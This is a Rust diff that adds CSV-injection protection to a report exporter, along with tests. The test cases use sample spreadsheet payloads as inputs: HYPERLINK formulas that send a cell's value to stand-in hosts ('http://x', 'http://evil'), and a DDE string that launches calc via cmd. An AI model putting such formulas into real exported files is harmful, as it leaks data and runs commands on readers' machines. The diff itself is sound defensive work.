@@ -31,11 +31,25 @@ fn csv_record(report: &Report, f: &Finding) -> [String; 12] {
     ]
 }
 
+/// A cell a spreadsheet would run as a formula (OWASP "CSV injection"): text starting with
+/// `=`, `+`, `-`, `@`, a tab or a carriage return that is not a plain number gets a leading
+/// `'`, which Excel, LibreOffice and Sheets show as text. Numbers such as `-0.01` stay numbers.
+pub fn neutralise_cell(text: &str) -> String {
+    let starts_like_formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if starts_like_formula && text.parse::<rust_decimal::Decimal>().is_err() {
+        format!("'{text}")
+    } else {
+        text.to_string()
+    }
+}
+
 /// One row per finding, UTF-8 with a BOM: Excel on Chinese Windows then reads it correctly.
+/// Every cell goes through [`neutralise_cell`]: a row label copied from a hostile document
+/// must never become a live formula in the reader's spreadsheet.
 pub fn to_csv(report: &Report) -> String {
     let mut writer = csv::Writer::from_writer(Vec::new());
-    let rows =
-        std::iter::once(CSV_HEADER.map(String::from)).chain(report.findings.iter().map(|f| csv_record(report, f)));
+    let rows = std::iter::once(CSV_HEADER.map(String::from))
+        .chain(report.findings.iter().map(|f| csv_record(report, f).map(|cell| neutralise_cell(&cell))));
     for row in rows {
         // Writing into a Vec cannot fail for I/O reasons; a failure would only drop the row.
         let _ = writer.write_record(&row);
@@ -97,6 +111,40 @@ mod tests {
         assert_eq!(&rows[0][3], "表三");
         assert_eq!(&rows[0][4], "C3");
         assert_eq!((&rows[0][7], &rows[0][8], &rows[0][9]), ("352.16", "352.15", "0.01"));
+    }
+
+    #[test]
+    fn csv_cells_that_start_like_a_formula_are_text() {
+        for (cell, written) in [
+            ("=HYPERLINK(\"http://x/?d=\"&C5,\"详情\")", "'=HYPERLINK(\"http://x/?d=\"&C5,\"详情\")"),
+            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+            ("@SUM(1+1)", "'@SUM(1+1)"),
+            ("-2+3", "'-2+3"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("-0.01", "-0.01"),
+            ("+5", "+5"),
+            ("一般公共预算", "一般公共预算"),
+            ("", ""),
+        ] {
+            assert_eq!(neutralise_cell(cell), written, "{cell:?}");
+        }
+    }
+
+    #[test]
+    fn a_formula_row_label_reaches_the_csv_as_text() {
+        let report = crate::check_text(SEED);
+        let label = report.findings.iter().find_map(|f| f.cell.as_ref()).unwrap().row_label.clone();
+        let text = SEED.replace(&label, "=HYPERLINK(\"http://evil/?d=\"&C5,\"详情\")");
+        let csv = to_csv(&crate::check_text(&text));
+        assert!(csv.contains("'=HYPERLINK("), "{csv}");
+        let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{FEFF}').as_bytes());
+        for row in reader.records() {
+            for cell in row.unwrap().iter() {
+                assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?}");
+                assert!(!cell.starts_with('-') || cell.parse::<rust_decimal::Decimal>().is_ok(), "{cell:?}");
+            }
+        }
     }
 
     #[test]
